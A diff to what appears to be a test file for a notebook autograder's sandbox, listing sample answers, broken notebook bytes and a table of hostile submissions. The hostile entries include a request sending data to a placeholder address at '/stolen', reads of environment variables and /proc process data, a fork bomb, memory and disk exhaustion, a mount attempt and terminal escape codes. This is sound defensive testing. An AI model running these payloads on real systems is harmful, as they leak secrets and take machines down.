@@ -51,10 +51,8 @@ def right_answers(handout):
     make = lambda answer=RIGHT, *before, after=(): notebook(handout, answer, before, after)  # noqa: E731
     forms = {
         "plain": make(),
-        "clock": make(f"import time\nassert len({{time.process_time() for _ in range(9999)}}) > 999\n{RIGHT}"),
         "cell-time": make(f"%%time\n{RIGHT}"),
         "shell": make(RIGHT, "!ls", "import asyncio\nawait asyncio.sleep(0)", "display(3)"),
-        "partial": make("import functools\nanswer = functools.partial(torch.mul, torch.tensor(2.0))"),
         "loud": make(f"{RIGHT}\n\nfor _ in range(100):\n    print('x' * 1_000_000)"),
         "version-3": version_3(make()),
         "deleted-test": without_hidden_cell(make()),
@@ -74,18 +72,14 @@ for path in glob.glob("{}", recursive=True):
 HOSTILE = {
     "network": "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
     "sources": SEARCH.format("/**/source/**/*.ipynb"),
-    "database": SEARCH.format("/**/gradebook.db"),
     "outside": "open('{canary}', 'w').write('changed')",
-    "checkout": "import residual_edu, pathlib\n(pathlib.Path(residual_edu.__file__).parent / 'canary').write_text('x')",
     "environment": "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
     "processes": "import os\nprint([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
     "forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break",
     "memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))",
     "disk": "import os\nfor n in range(99):\n    open(f'/tmp/{n}', 'wb').write(bytes(40_000_000))",
     "exit": "import os\nos._exit(0)",
-    "kills-parent": "import os\nos.kill(os.getppid(), 9)",
     "stubborn": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
-    "flood": "while True: print('x' * 1000)",
     "daemon": "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)",
     "mounts": "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', b'', 4096, None) == 0",
     "escapes": "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
@@ -101,9 +95,7 @@ CHEATS = {  # a submission and its tests share a kernel: nbgrader cannot stop th
 }
 BROKEN = {  # bytes in place of a notebook, and what the row says
     "empty": (b"", "is no notebook"),
-    "a-list": (b"[1, 2]", "is no notebook"),
     "nested": (b"[" * 200_000, "is no notebook"),
-    "odd-cells": (b'{"nbformat": 4, "cells": [3]}', "is no notebook"),
     "binary": (bytes(range(256)) * 9, "is no notebook"),
     "no-answers": (
         b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}',
